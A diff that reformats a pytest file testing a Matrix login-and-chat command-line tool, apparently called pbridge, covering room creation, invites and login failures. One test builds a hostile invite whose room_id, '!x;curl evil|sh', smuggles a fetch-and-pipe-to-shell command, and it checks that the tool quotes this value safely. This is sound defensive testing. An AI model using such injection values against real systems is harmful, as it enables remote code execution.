@@ -34,8 +34,17 @@ def login(home: Path, *args: str, password: str = BOT_PASSWORD) -> subprocess.Co
     os.write(write_end, password.encode() + b"\n")
     os.close(write_end)
     try:
-        return run("--home", str(home), "carrier", "login", "matrix", *args, "--password-fd", str(read_end),
-                   pass_fds=(read_end,))
+        return run(
+            "--home",
+            str(home),
+            "carrier",
+            "login",
+            "matrix",
+            *args,
+            "--password-fd",
+            str(read_end),
+            pass_fds=(read_end,),
+        )
     finally:
         os.close(read_end)
 
@@ -59,8 +68,17 @@ def room(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
     alice_bot, bob_bot = bot(server, "alicebot"), bot(server, "bobbot")
     for home, user in ((alice, "alice"), (bob, "bob")):
         ok(home, user, "init", "--username", user, "--weak-secret-ok")
-    login_ok(alice, "mx", "--homeserver", server.url, "--user", alice_bot, "--create-room",
-             "--invite", f"@{bob_bot}:localhost")
+    login_ok(
+        alice,
+        "mx",
+        "--homeserver",
+        server.url,
+        "--user",
+        alice_bot,
+        "--create-room",
+        "--invite",
+        f"@{bob_bot}:localhost",
+    )
     room_id = load_config(alice / "config.toml").carriers["mx"].settings["room_id"]
     ok(alice, "alice", "chat", "create", "Family", "--carrier", "mx", "--weak-secret-ok")
     invite = ok(alice, "alice", "chat", "invite", "family", "--no-qr").strip()
@@ -73,8 +91,16 @@ def room(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
     ok(alice, "alice", "send", "family", "-", "--queue", stdin=BIG)
     sent = poll(alice, "alice")
     bob_poll = poll(bob, "bob")
-    return {"server": server, "root": root, "alice": alice, "bob": bob, "room_id": room_id, "invite": invite,
-            "sent": sent, "bob_poll": bob_poll}
+    return {
+        "server": server,
+        "root": root,
+        "alice": alice,
+        "bob": bob,
+        "room_id": room_id,
+        "invite": invite,
+        "sent": sent,
+        "bob_poll": bob_poll,
+    }
 
 
 def test_one_poll_brings_every_pointer_once_and_bob_reads_all_300_in_order(room: dict[str, object]) -> None:
@@ -99,8 +125,12 @@ def test_a_member_who_logs_in_later_reads_the_room_history(room: dict[str, objec
     assert isinstance(server, Synapse)
     carol_bot = bot(server, "carolbot")
     alice_token = (Path(str(room["alice"])) / "tokens" / "mx.token").read_text().strip()
-    server.request("POST", f"/_matrix/client/v3/rooms/{room['room_id']}/invite", {"user_id": f"@{carol_bot}:localhost"},
-                   alice_token)
+    server.request(
+        "POST",
+        f"/_matrix/client/v3/rooms/{room['room_id']}/invite",
+        {"user_id": f"@{carol_bot}:localhost"},
+        alice_token,
+    )
     ok(carol, "carol", "init", "--username", "carol", "--weak-secret-ok")
     login_ok(carol, "mx", "--homeserver", server.url, "--user", carol_bot, "--room", str(room["room_id"]))
     ok(carol, "carol", "chat", "join", str(room["invite"]))
@@ -154,8 +184,11 @@ def test_a_wrong_password_or_a_missing_room_changes_nothing(tmp_path: Path) -> N
     assert wrong.returncode == 24 and "refused" in wrong.stderr and len(wrong.stderr.splitlines()) == 1
     assert "not it" not in wrong.stderr + wrong.stdout
     assert not (home / "config.toml").exists() and not (home / "tokens" / "mx.token").exists()
-    probe = server.request("POST", "/_matrix/client/v3/login", {
-        "type": "m.login.password", "identifier": {"type": "m.id.user", "user": name}, "password": BOT_PASSWORD})
+    probe = server.request(
+        "POST",
+        "/_matrix/client/v3/login",
+        {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": name}, "password": BOT_PASSWORD},
+    )
     before = _devices(server, probe["access_token"])
     missing = login(home, "mx", "--homeserver", server.url, "--user", name, "--room", "!nowhere:localhost")
     assert missing.returncode == 24 and "joining" in missing.stderr and "Traceback" not in missing.stderr
@@ -165,17 +198,53 @@ def test_a_wrong_password_or_a_missing_room_changes_nothing(tmp_path: Path) -> N
 
 def test_bad_login_arguments_fail_before_the_password_is_asked(tmp_path: Path) -> None:
     home = tmp_path / "home"
-    both = run("--home", str(home), "carrier", "login", "matrix", "mx", "--homeserver", "http://127.0.0.1:9",
-               "--user", "bot", "--room", "!a:b", "--create-room")  # no password given, no terminal
+    both = run(
+        "--home",
+        str(home),
+        "carrier",
+        "login",
+        "matrix",
+        "mx",
+        "--homeserver",
+        "http://127.0.0.1:9",
+        "--user",
+        "bot",
+        "--room",
+        "!a:b",
+        "--create-room",
+    )  # no password given, no terminal
     assert both.returncode == 3 and "not both" in both.stderr
-    neither = run("--home", str(home), "carrier", "login", "matrix", "mx", "--homeserver", "http://127.0.0.1:9",
-                  "--user", "bot")
+    neither = run(
+        "--home", str(home), "carrier", "login", "matrix", "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot"
+    )
     assert neither.returncode == 3 and "--create-room" in neither.stderr
-    badly_named = run("--home", str(home), "carrier", "login", "matrix", "My Bot", "--homeserver",
-                      "http://127.0.0.1:9", "--user", "bot", "--create-room")
+    badly_named = run(
+        "--home",
+        str(home),
+        "carrier",
+        "login",
+        "matrix",
+        "My Bot",
+        "--homeserver",
+        "http://127.0.0.1:9",
+        "--user",
+        "bot",
+        "--create-room",
+    )
     assert badly_named.returncode == 3 and "carrier name" in badly_named.stderr
-    newline = run("--home", str(home), "carrier", "login", "matrix", "mx\n", "--homeserver", "http://127.0.0.1:9",
-                  "--user", "bot", "--create-room")
+    newline = run(
+        "--home",
+        str(home),
+        "carrier",
+        "login",
+        "matrix",
+        "mx\n",
+        "--homeserver",
+        "http://127.0.0.1:9",
+        "--user",
+        "bot",
+        "--create-room",
+    )
     assert newline.returncode == 3 and not (home / "tokens").exists()
     unreachable = login(home, "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot", "--create-room")
     assert unreachable.returncode == 25 and "unreachable" in unreachable.stderr
@@ -187,12 +256,22 @@ def test_joining_a_matrix_chat_without_a_bot_says_how(room: dict[str, object], t
     result = pb(dave, "alice", "chat", "join", str(room["invite"]), secret=CHAT_SECRET)
     assert result["rc"] == "24" and "pbridge carrier login matrix mx" in result["err"]
     assert str(room["room_id"]) in result["err"] and not (dave / "config.toml").exists()
-    hostile = _invite({"v": 1, "chat": "trap", "carriers": {"mx": {
-        "type": "matrix", "homeserver": "http://x", "room_id": "!x;curl evil|sh"}}})
+    hostile = _invite(
+        {
+            "v": 1,
+            "chat": "trap",
+            "carriers": {"mx": {"type": "matrix", "homeserver": "http://x", "room_id": "!x;curl evil|sh"}},
+        }
+    )
     trapped = pb(dave, "alice", "chat", "join", hostile, secret=CHAT_SECRET)
     assert trapped["rc"] == "24" and "--room '!x;curl evil|sh'" in trapped["err"]  # quoted for the shell
-    unusable = _invite({"v": 1, "chat": "trap", "carriers": {"Bad Name": {
-        "type": "matrix", "homeserver": "http://x", "room_id": "!x:y"}}})
+    unusable = _invite(
+        {
+            "v": 1,
+            "chat": "trap",
+            "carriers": {"Bad Name": {"type": "matrix", "homeserver": "http://x", "room_id": "!x:y"}},
+        }
+    )
     named = pb(dave, "alice", "chat", "join", unusable, secret=CHAT_SECRET)
     assert named["rc"] == "3" and "login" not in named["err"]  # no hint to log in under a name it would refuse
 
